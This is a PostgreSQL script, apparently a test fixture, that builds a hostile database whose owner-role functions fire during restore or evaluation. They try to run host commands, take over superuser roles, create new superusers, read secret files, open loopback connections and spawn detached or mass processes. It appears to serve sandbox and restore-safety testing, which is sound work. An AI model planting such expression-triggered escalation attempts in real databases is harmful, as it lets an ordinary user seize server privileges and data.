-- A database whose owner is an ordinary role, and that tries to get out wherever somebody evaluates its expressions. `out` is a folder
-- that everybody may write, `secret` a file that everybody may read, `port` a listener on the loopback interface, `os` whether there is
-- a function that runs code on the host with the server's rights: a superuser must have made it.
-- Every attempt is silent, so that loading goes on.
\set ON_ERROR_STOP on
SET client_min_messages = error;
DO $$ BEGIN IF NOT EXISTS (SELECT FROM pg_roles WHERE rolname = 'alice') THEN CREATE ROLE alice LOGIN; END IF; END $$;
SELECT set_config('hostile.out', :'out', false), set_config('hostile.secret', :'secret', false), set_config('hostile.port', :'port', false) \g /dev/null
CREATE SCHEMA alice AUTHORIZATION alice;
CREATE EXTENSION dblink SCHEMA public;
\if :os
CREATE EXTENSION plperlu;
SELECT format($outer$
CREATE FUNCTION public.os(way text) RETURNS void LANGUAGE plperlu AS $perl$
  my ($way) = @_;
  my ($out, $secret, $port) = (%L, %L, %L);
  my $mark = sub { if (open(my $f, '>>', "$out/$_[0]")) { print $f ($_[1] // 'here'); close $f } };
  $mark->("os.$way");
  if (open(my $f, '<', $secret)) { $mark->("os.$way.secret", <$f>) }
  require Socket;
  if (socket(my $s, Socket::PF_INET(), Socket::SOCK_STREAM(), 0)) {
    $mark->("os.$way.tcp") if connect($s, Socket::pack_sockaddr_in($port, Socket::inet_aton('127.0.0.1')));
  }
  if (socket(my $s, Socket::PF_UNIX(), Socket::SOCK_STREAM(), 0)) {
    $mark->("os.$way.socket") if connect($s, Socket::pack_sockaddr_un("$out/socket"));
  }
  my $child = fork();
  if (defined $child && $child == 0) {
    # Detached: its session, and not a child of the server.
    require POSIX;
    POSIX::setsid();
    POSIX::_exit(0) if fork();
    exec('/bin/sh', '-c', 'exec 0<&- 1>&- 2>&-; sleep 1 2>/dev/null; echo later > "$0/os.later" 2>/dev/null; exec sleep 4321', $out);
    POSIX::_exit(1);
  }
  waitpid($child, 0) if $child;
  return;
$perl$
$outer$, current_setting('hostile.out'), current_setting('hostile.secret'), current_setting('hostile.port')) \gexec
GRANT EXECUTE ON FUNCTION public.os TO PUBLIC;
-- How many processes there can be, up to 1,500.
CREATE FUNCTION public.processes() RETURNS int LANGUAGE plperlu AS $perl$
  my @children;
  while (@children < 1500) {
    my $child = fork();
    last unless defined $child;
    if ($child == 0) { exec('/bin/sleep', '60'); require POSIX; POSIX::_exit(1) }
    push @children, $child;
  }
  kill('KILL', $_) for @children;
  waitpid($_, 0) for @children;
  return scalar @children;
$perl$;
\else
CREATE FUNCTION public.os(way text) RETURNS void LANGUAGE sql AS 'SELECT';
\endif

-- Everything that SQL offers. Each attempt that succeeds leaves a mark in `out`, or a row in `loot`.
SELECT format($outer$
CREATE FUNCTION alice.attempt(way text) RETURNS boolean LANGUAGE plpgsql VOLATILE AS $f$
DECLARE
  mark text := %L || '/' || way || '.';
  statement text;
  text_of text;
BEGIN
  -- While it is made, it has nothing to try.
  IF session_user = 'alice' THEN RETURN true; END IF;
  -- Once for each way and session is enough.
  IF current_setting('hostile.' || replace(way, '-', '_'), true) = 'tried' THEN RETURN true; END IF;
  PERFORM set_config('hostile.' || replace(way, '-', '_'), 'tried', false);
  BEGIN PERFORM public.os(way); EXCEPTION WHEN OTHERS THEN NULL; END;
  FOREACH statement IN ARRAY ARRAY[
    format('COPY (SELECT 1) TO PROGRAM %%L', 'touch ' || mark || 'program'),
    format('COPY (SELECT 1) TO %%L', mark || 'file'),
    'RESET ROLE', format('COPY (SELECT 1) TO PROGRAM %%L', 'touch ' || mark || 'reset-role'),
    'RESET SESSION AUTHORIZATION', format('COPY (SELECT 1) TO PROGRAM %%L', 'touch ' || mark || 'reset-session'),
    'SET SESSION AUTHORIZATION marbre', format('COPY (SELECT 1) TO PROGRAM %%L', 'touch ' || mark || 'superuser'),
    'SET ROLE marbre', format('COPY (SELECT 1) TO PROGRAM %%L', 'touch ' || mark || 'set-role'),
    format('SELECT lo_export(lo_from_bytea(0, ''x''), %%L)', mark || 'lo_export'),
    'ALTER ROLE alice SUPERUSER',
    'GRANT pg_execute_server_program TO alice',
    'CREATE ROLE mallory SUPERUSER LOGIN',
    format('CREATE FUNCTION alice.c() RETURNS int LANGUAGE c AS %%L', 'libc.so.6'),
    format('ALTER SYSTEM SET archive_command = %%L', 'touch ' || mark || 'archive'),
    format('SELECT dblink_connect(%%L)', 'host=127.0.0.1 user=u password=p connect_timeout=1 port=' || %L),
    format('SELECT dblink_connect(%%L)', 'host=' || %L || ' user=u password=p connect_timeout=1'),
    -- Not to get in the way of what loads: that would only be a drill that fails.
    'RESET ROLE'
  ] LOOP
    BEGIN EXECUTE statement; EXCEPTION WHEN OTHERS THEN NULL; END;
  END LOOP;
  BEGIN
    text_of := pg_read_file(%L);
    INSERT INTO alice.loot VALUES (way, text_of);
  EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN true;
END $f$
$outer$, current_setting('hostile.out'), current_setting('hostile.port'), current_setting('hostile.out'), current_setting('hostile.secret')) \gexec
ALTER FUNCTION alice.attempt OWNER TO alice;

-- Event triggers can only be made by superusers; those of a hostile source are as hostile.
CREATE FUNCTION alice.on_event() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM alice.attempt('event-trigger'); END $$;

SET SESSION AUTHORIZATION alice;
CREATE TABLE alice.loot (way text, found text);
CREATE FUNCTION alice.check_it(way text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN alice.attempt(way); END $$;
CREATE FUNCTION alice.number(way text, n int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM alice.attempt(way); RETURN n; END $$;

CREATE DOMAIN alice.watched AS text CHECK (alice.check_it('domain'));
CREATE DOMAIN alice.counted AS int CHECK (alice.check_it('domain-of-a-bound'));
CREATE TABLE alice.in_check (id int PRIMARY KEY, CHECK (alice.attempt('check')));
CREATE TABLE alice.in_domain (id int PRIMARY KEY, w alice.watched);
CREATE TABLE alice.generated (id int PRIMARY KEY, g int GENERATED ALWAYS AS (id + alice.number('generated', 1)) STORED);
CREATE TABLE alice.constant (id int PRIMARY KEY, g int GENERATED ALWAYS AS (alice.number('generated-constant', 1)) STORED);
CREATE TABLE alice.defaults (id int PRIMARY KEY, d boolean DEFAULT alice.attempt('default'));
CREATE TABLE alice.indexed (id int PRIMARY KEY);
CREATE INDEX ON alice.indexed ((id + alice.number('index-expression', 1)));
CREATE INDEX ON alice.indexed (id) WHERE id > alice.number('index-predicate', 0);
CREATE STATISTICS alice.stats ON (id + alice.number('statistics', 1)), (id * 2) FROM alice.indexed;
CREATE TABLE alice.parted (id int, k alice.counted) PARTITION BY RANGE (k);
CREATE TABLE alice.part PARTITION OF alice.parted FOR VALUES FROM (1) TO (100);
CREATE TABLE alice.by_expression (id int, k int) PARTITION BY LIST ((k + alice.number('partition-key', 0)));
CREATE TABLE alice.by_expression_1 PARTITION OF alice.by_expression FOR VALUES IN (1);
CREATE MATERIALIZED VIEW alice.summary AS SELECT id + alice.number('materialized-view', 1) AS id FROM alice.indexed;
CREATE UNIQUE INDEX ON alice.summary ((id + alice.number('index-on-materialized-view', 1)));
CREATE VIEW alice.seen AS SELECT id, alice.attempt('view') AS tried FROM alice.indexed;

CREATE TABLE alice.triggered (id int PRIMARY KEY);
CREATE FUNCTION alice.on_row() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM alice.attempt('trigger'); RETURN NEW; END $$;
CREATE TRIGGER t BEFORE INSERT OR UPDATE OR DELETE ON alice.triggered FOR EACH ROW EXECUTE FUNCTION alice.on_row();
ALTER TABLE alice.triggered ENABLE ALWAYS TRIGGER t;
CREATE TABLE alice.ruled (id int PRIMARY KEY);
CREATE RULE r AS ON DELETE TO alice.ruled DO ALSO SELECT alice.attempt('rule');
CREATE TABLE alice.policed (id int PRIMARY KEY);
ALTER TABLE alice.policed ENABLE ROW LEVEL SECURITY;
ALTER TABLE alice.policed FORCE ROW LEVEL SECURITY;
CREATE POLICY p ON alice.policed USING (alice.attempt('policy'));

-- A cast that a foreign key uses, an operator, and an aggregate whose first value goes through a domain.
CREATE TYPE alice.code AS ENUM ('1', '2');
CREATE FUNCTION alice.code_to_int(alice.code) RETURNS int LANGUAGE plpgsql IMMUTABLE AS
  $$ BEGIN PERFORM alice.attempt('cast'); RETURN $1::text::int; END $$;
CREATE CAST (alice.code AS int) WITH FUNCTION alice.code_to_int(alice.code) AS IMPLICIT;
CREATE TABLE alice.referenced (id int PRIMARY KEY);
CREATE TABLE alice.referencing (id int PRIMARY KEY, c alice.code REFERENCES alice.referenced);
CREATE FUNCTION alice.same(alice.code, alice.code) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS
  $$ BEGIN PERFORM alice.attempt('operator'); RETURN $1::text = $2::text; END $$;
CREATE OPERATOR alice.=== (LEFTARG = alice.code, RIGHTARG = alice.code, FUNCTION = alice.same);
CREATE TABLE alice.operated (id int PRIMARY KEY, c alice.code, CHECK (c OPERATOR(alice.===) c));
CREATE FUNCTION alice.step(alice.watched, int) RETURNS alice.watched LANGUAGE sql IMMUTABLE AS 'SELECT $1';
CREATE AGGREGATE alice.total(int) (SFUNC = alice.step, STYPE = alice.watched, INITCOND = 'first');

INSERT INTO alice.in_check SELECT generate_series(1, 20);
INSERT INTO alice.in_domain SELECT i, 'w' || i FROM generate_series(1, 20) i;
INSERT INTO alice.generated SELECT generate_series(1, 20);
INSERT INTO alice.constant SELECT generate_series(1, 20);
INSERT INTO alice.defaults SELECT generate_series(1, 20);
INSERT INTO alice.indexed SELECT generate_series(1, 20);
INSERT INTO alice.parted SELECT i, i FROM generate_series(1, 20) i;
INSERT INTO alice.by_expression SELECT i, 1 FROM generate_series(1, 20) i;
INSERT INTO alice.triggered SELECT generate_series(1, 20);
INSERT INTO alice.ruled SELECT generate_series(1, 20);
INSERT INTO alice.policed SELECT generate_series(1, 20);
INSERT INTO alice.referenced VALUES (1), (2);
INSERT INTO alice.referencing VALUES (1, '1'), (2, '2');
INSERT INTO alice.operated VALUES (1, '1');
REFRESH MATERIALIZED VIEW alice.summary;
-- Checked when it is restored, over all rows that are there.
ALTER TABLE alice.indexed ADD CONSTRAINT late CHECK (alice.attempt('check-not-valid')) NOT VALID;
SELECT lo_from_bytea(0, 'a large object of alice') \g /dev/null
ANALYZE;
RESET SESSION AUTHORIZATION;
CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION alice.on_event();
ALTER EVENT TRIGGER e ENABLE ALWAYS;
